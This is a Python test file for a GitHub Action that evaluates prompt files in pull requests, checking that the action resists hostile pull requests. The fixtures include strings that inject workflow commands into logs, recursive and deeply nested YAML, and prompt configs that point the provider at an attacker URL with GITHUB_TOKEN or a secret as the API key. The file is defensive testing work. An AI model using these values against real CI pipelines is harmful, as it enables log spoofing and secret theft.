"""The GitHub Action facing a hostile pull request (docs/security.md): names and ids that try
to become workflow commands in the log, a marker comment planted by someone else, prompt
files that expand, recurse or point the workers elsewhere next to a legitimate one, and the
events that would hand the gate's secrets to a fork's code."""

from __future__ import annotations

import re

import pytest
from support.action_harness import HEAD1, act, fast, github_env, make_workspace, pr_payload
from support.fake_github import FakeGitHub
from support.migrated import migrated

from gate import gateconfig
from gate.calls.llm import CallResult
from gate.domain import Gate
from gate.mockllm import MockLLMServer
from gate.report.markdown import MARKER

OUR_COMMANDS = re.compile(r"^::(error|warning|notice) (file=[^:\n]*,)?(line=\d+,)?title=prompt-gate::")
INJECTED = "x\n::warning file=README.md,line=1::pwned\r::add-mask::hunter2\n##[error]fake"


def workflow_commands(log: str) -> list[str]:
    """Lines the runner would act on: every one must be an annotation we wrote."""
    return [line for line in log.splitlines() if line.strip().startswith(("::", "##["))]


def test_names_and_ids_from_the_pull_request_never_become_workflow_commands(tmp_path, github, sqlite_url, model):
    from workers import ROLES
    from workers.supervisor import WorkerProcess

    gate = fast(Gate.connect(migrated(sqlite_url), upgrade=True))
    ws = make_workspace(tmp_path)
    gateconfig.sync(gate, ws / "gate.yaml")
    data = ws / "datasets" / "inject.csv"
    data.write_text("item_id,expected_decision,text\n" + f'"{INJECTED}",yes,first\n' + "ok,no,fine\n")
    gate.register_dataset("inject", "datasets/inject.csv", base_dir=ws)
    gate.map_dataset("inject-prompt", "inject", "0.9")
    hostile_file = "prompts/" + INJECTED.replace("\n", "_").replace("\r", "_") + ".yaml"
    (ws / "prompts" / "inject.yaml").write_text(
        "name: inject-prompt\nmodel: m\nmessages:\n  - {role: user, content: '{{ item.text }}'}\n"
    )
    github.add_pull(7, HEAD1, ["prompts/inject.yaml", "prompts/gone\n::error::x.yaml", hostile_file])
    env = github_env(tmp_path, github, ws, "pull_request", pr_payload(7, HEAD1), "m" * 40, "refs/pull/7/merge")

    def wrong_model(spec, item, **_):
        return CallResult("no", True, "no\n::warning::from the model", 1)

    worker = WorkerProcess(gate.engine, gate.settings, ROLES, call=wrong_model).start()
    try:
        code, log = act(env, gate, run_workers=False, timeout=30)
    finally:
        worker.shutdown(10)
    assert code == 2, log  # two files are not in the checkout
    commands = workflow_commands(log)
    assert commands and all(OUR_COMMANDS.match(line) for line in commands), commands


def test_a_marker_comment_by_someone_else_is_never_edited(tmp_path, github, sqlite_url, model):
    gate = fast(Gate.connect(migrated(sqlite_url), upgrade=True))
    ws = make_workspace(tmp_path)
    gateconfig.sync(gate, ws / "gate.yaml")
    planted = github.add_issue_comment(8, f"{MARKER}\nAll prompts passed! ✅ (not really)", user="mallory")
    github.add_pull(8, HEAD1, ["prompts/ticket-urgency.yaml"])
    env = github_env(tmp_path, github, ws, "pull_request", pr_payload(8, HEAD1), "m" * 40, "refs/pull/8/merge")
    for _ in range(2):
        code, log = act(env, gate)
        assert code == 0, log
    comments = github.comments_on(8)
    (theirs,) = [c for c in comments if c["id"] == planted]
    ours = [c for c in comments if c["id"] != planted]
    assert theirs["body"].endswith("(not really)") and theirs["user"] == "mallory"
    assert len(ours) == 1 and ours[0]["user"] == "github-actions[bot]" and "PASSED" in ours[0]["body"]
    assert not github.calls_to("PATCH", rf"/issues/comments/{planted}$")


def test_with_a_personal_token_the_comment_is_the_token_users(tmp_path, sqlite_url, model):
    with FakeGitHub("acme/prompts", token="test-token", token_login="release-bot") as gh:
        gate = fast(Gate.connect(migrated(sqlite_url), upgrade=True))
        ws = make_workspace(tmp_path)
        gateconfig.sync(gate, ws / "gate.yaml")
        gh.add_issue_comment(9, f"{MARKER}\nold", user="github-actions[bot]")  # not this token's
        gh.add_pull(9, HEAD1, ["prompts/ticket-urgency.yaml"])
        env = github_env(tmp_path, gh, ws, "pull_request", pr_payload(9, HEAD1), "m" * 40, "refs/pull/9/merge")
        for _ in range(2):
            assert act(env, gate)[0] == 0
        mine = [c for c in gh.comments_on(9) if c["user"] == "release-bot"]
        assert len(mine) == 1 and "PASSED" in mine[0]["body"]
        assert len(gh.calls_to("PATCH", r"/issues/comments/\d+$")) == 1


@pytest.mark.parametrize(
    "bad",
    [
        "response_format: &a {type: json_object, x: *a}\n",
        "response_format: " + "[" * 5000 + "]" * 5000 + "\n",
        "provider: {base_url: 'http://127.0.0.1:9/v1', api_key_env: GITHUB_TOKEN}\n",
        "provider: attacker\n",
    ],
)
def test_a_hostile_file_is_one_annotation_and_the_others_are_still_evaluated(tmp_path, github, sqlite_url, model, bad):
    gate = fast(Gate.connect(migrated(sqlite_url), upgrade=True))
    ws = make_workspace(tmp_path)
    gateconfig.sync(gate, ws / "gate.yaml")
    base = (ws / "prompts" / "refund-eligibility.yaml").read_text()
    (ws / "prompts" / "refund-eligibility.yaml").write_text(base + bad)
    github.add_pull(10, HEAD1, ["prompts/refund-eligibility.yaml", "prompts/ticket-urgency.yaml"])
    env = github_env(tmp_path, github, ws, "pull_request", pr_payload(10, HEAD1), "m" * 40, "refs/pull/10/merge")
    code, log = act(env, gate)
    assert code == 2 and "Traceback" not in log, log
    errors = [line for line in log.splitlines() if line.startswith("::error file=prompts/refund-eligibility.yaml")]
    assert len(errors) == 1, log
    body = github.comments_on(10)[0]["body"]
    assert "ticket-urgency" in body and "PASSED" in body  # the legitimate file was evaluated
    assert [u.prompt_name for u in gate.list_updates()] == ["ticket-urgency"]


def test_the_exfiltration_prompt_sends_nothing_to_its_url(tmp_path, github, sqlite_url, model, monkeypatch):
    monkeypatch.setenv("GATE_SECRET", "s3cr3t")
    with MockLLMServer() as attacker:
        gate = fast(Gate.connect(migrated(sqlite_url), upgrade=True))
        ws = make_workspace(tmp_path)
        gateconfig.sync(gate, ws / "gate.yaml")
        path = ws / "prompts" / "ticket-urgency.yaml"
        path.write_text(path.read_text() + f"provider: {{base_url: '{attacker.base_url}', api_key_env: GATE_SECRET}}\n")
        github.add_pull(11, HEAD1, ["prompts/ticket-urgency.yaml"])
        env = github_env(tmp_path, github, ws, "pull_request", pr_payload(11, HEAD1), "m" * 40, "refs/pull/11/merge")
        code, log = act(env, gate)
        assert code == 2, log
        assert attacker.stats()["requests"] == 0
        assert "s3cr3t" not in log and "s3cr3t" not in github.comments_on(11)[0]["body"]


@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run"])
def test_events_that_run_a_forks_code_with_secrets_are_refused(tmp_path, github, sqlite_url, event):
    gate = fast(Gate.connect(migrated(sqlite_url), upgrade=True))
    ws = make_workspace(tmp_path)
    env = github_env(tmp_path, github, ws, event, pr_payload(12, HEAD1), "m" * 40, "refs/heads/main")
    from gate.errors import UsageError

    with pytest.raises(UsageError) as info:
        act(env, gate)
    assert "secrets on a fork's code" in str(info.value) and "docs/security.md" in str(info.value)
    assert not github.calls
